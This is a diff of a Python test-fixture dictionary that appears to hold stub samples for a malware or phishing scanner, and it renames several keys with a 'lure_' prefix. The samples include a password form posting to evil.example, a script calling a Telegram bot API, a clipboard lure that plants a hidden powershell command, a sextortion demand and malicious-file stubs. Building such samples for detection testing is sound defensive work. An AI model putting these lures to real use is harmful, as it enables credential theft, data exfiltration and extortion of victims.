@@ -30,11 +30,11 @@ SPECIMENS = {
     "internet_shortcut_to_share": b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\n",
     "equation_editor_object": b"{\\rtf1{\\object{\\*\\objdata 4571756174696f6e2e33}}}",
     "notes_with_a_script": ONENOTE + bytes(20) + b"@echo off\r\npowershell",
-    "page_that_asks_for_a_password": b"<form action='https://evil.example/p'><input name=p type=password></form>",
-    "page_that_reports_to_a_bot": b"<input id=a><script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
-    "paste_this_to_prove_you_are_human": b"Press <b>Windows</b> + <b>R</b>, then Ctrl + V "
+    "lure_page_that_asks_for_a_password": b"<form action='https://evil.example/p'><input name=p type=password></form>",
+    "lure_page_that_reports_to_a_bot": b"<input id=a><script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
+    "lure_paste_this_to_prove_you_are_human": b"Press <b>Windows</b> + <b>R</b>, then Ctrl + V "
     b"<script>navigator.clipboard.writeText('powershell -w h')</script>",
-    "paid_or_shown": b"I recorded you by your webcam. Pay in bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
+    "lure_paid_or_shown": b"I recorded you by your webcam. Pay in bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
 }
 
 
